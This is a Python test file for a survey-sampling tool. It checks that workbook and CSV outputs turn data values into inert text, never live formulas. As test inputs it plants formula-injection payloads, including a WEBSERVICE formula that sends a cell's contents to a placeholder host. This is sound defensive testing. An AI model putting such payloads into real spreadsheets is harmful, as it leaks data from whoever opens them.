"""No value from the data becomes a live formula in a written workbook or CSV (docs/reliability.md
§7): property-based on the one helper every writer uses, and end to end through ``exitcheck
sample`` with a registry full of formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from itertools import cycle
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from reliability_helpers import TOWNSHIP, draw_without_report, sample_argv, write_table

from data_contracts.fileio import workbook_bytes
from data_contracts.inert import FORMULA_START, NOT_IN_XML, append_row, inert_csv

FORMULA = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "=+", "'="])
ODD = st.sampled_from(["\x00", "\x0b", "\uffff", "\ufffe", "\u200b", "\ufeff", "#N/A"])
TEXT = st.one_of(
    st.text(max_size=30),
    st.builds(str.__add__, FORMULA, st.text(max_size=30)),
    st.lists(st.one_of(ODD, FORMULA, st.text(max_size=3)), max_size=6).map("".join),
)
NUMBER = st.one_of(st.integers(-(10**9), 10**9), st.floats(-1e9, 1e9, allow_nan=False))


def _no_formula_start(cell: str) -> bool:
    """A spreadsheet reads ``cell`` as a number or as inert text, never as a formula."""
    try:
        float(cell)
        return True
    except ValueError:
        return not cell.startswith(FORMULA_START)


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(TEXT, min_size=1, max_size=8), number=NUMBER)
def test_no_workbook_cell_is_a_formula(texts: list[str], number: float) -> None:
    book = Workbook()
    append_row(book.active, texts)
    append_row(book.active, [number, *texts])
    again = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = [c for row in again.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    row = [c.value for c in again.active[2]]
    assert row[0] == pytest.approx(number, rel=1e-12)  # numbers stay numbers
    # the text as written, less what a worksheet cannot hold; an XML reader may or may not turn
    # CR into LF (openpyxl 3.1.5 with lxml keeps CR), so line ends are compared normalised
    def lines(t: str | None) -> str | None:
        return None if t is None else t.replace("\r\n", "\n").replace("\r", "\n")

    kept = [lines(NOT_IN_XML.sub("", t)) for t in texts]
    assert [lines(v) for v in row[1:]] == [t or None for t in kept]


@settings(max_examples=100, deadline=None)
@given(texts=st.lists(TEXT, min_size=1, max_size=8), numbers=st.lists(NUMBER, min_size=8))
def test_no_csv_cell_starts_with_a_formula_character(texts: list[str], numbers: list) -> None:
    table = pd.DataFrame({"text": texts, "number": numbers[: len(texts)]})
    data = inert_csv(table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows[0] == ["text", "number"] and len(rows) == len(texts) + 1
    for (text_cell, number_cell), text, number in zip(
        rows[1:], texts, table["number"], strict=True
    ):
        assert _no_formula_start(text_cell)
        assert text_cell in (text, "'" + text)  # nothing else changes
        assert float(number_cell) == number  # a negative number is still a number


def _formula_cells(path: Path) -> list[str]:
    """Cells of a workbook that hold a formula (an ``<f>`` element in any sheet's XML)."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(rb"<f[ >].*?</f>", book.read(n))]


def test_formulas_in_the_registry_stay_text_in_every_output(district, tmp_path) -> None:
    """Head names ``=HYPERLINK(…)``, 备注 ``=WEBSERVICE(…)``, household IDs and village names
    starting with = + - @: manifest and survey form hold no formula, sample.csv neutralises."""
    households = district.households.copy()
    hyperlink, webservice = '=HYPERLINK("http://x","y")', '=WEBSERVICE("http://x/?"&A1)'
    town = households["township"] == TOWNSHIP
    households.loc[town, "head_name"] = hyperlink
    ids = households.loc[town, "household_id"]
    households.loc[town, "household_id"] = [p + i for p, i in zip(cycle("=+-@"), ids)]
    households.loc[town, "village"] = "=1+1"
    inputs = {
        "households": write_table("households", households, tmp_path / "households.csv"),
        "villages": write_table("villages", district.villages, tmp_path / "villages.csv"),
        "poverty-lines": write_table("poverty-lines", district.poverty_lines, tmp_path / "pl.csv"),
    }
    raw = pd.read_csv(inputs["households"], dtype=str, encoding="utf-8-sig")
    raw["备注"] = webservice
    raw.to_csv(inputs["households"], index=False, encoding="utf-8-sig")
    out = tmp_path / "run"
    assert draw_without_report(sample_argv(inputs, out)) == 0

    for name in ("manifest.xlsx", "survey_form.xlsx"):
        assert _formula_cells(out / name) == [], name
        book = openpyxl.load_workbook(out / name)
        cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for c in cells), name
    manifest = openpyxl.load_workbook(out / "manifest.xlsx")["样本户"]
    header = [c.value for c in manifest[1]]
    names = {manifest.cell(r, header.index("户主姓名") + 1).value for r in range(2, 42)}
    assert names == {hyperlink}  # the field team reads the name as it was written
    form = openpyxl.load_workbook(out / "survey_form.xlsx")["调查表"]
    ids = [form.cell(r, 1).value for r in range(2, form.max_row + 1)]  # text-formatted blanks too
    assert {str(v)[0] for v in ids if v is not None} == set("=+-@")

    text = (out / "sample.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(_no_formula_start(cell) for row in rows for cell in row)
    header = rows[0]
    ids = {row[header.index("household_id")][:2] for row in rows[1:]}
    assert ids == {"'=", "'+", "'-", "'@"}
    assert {row[header.index("village")] for row in rows[1:]} == {"'=1+1"}
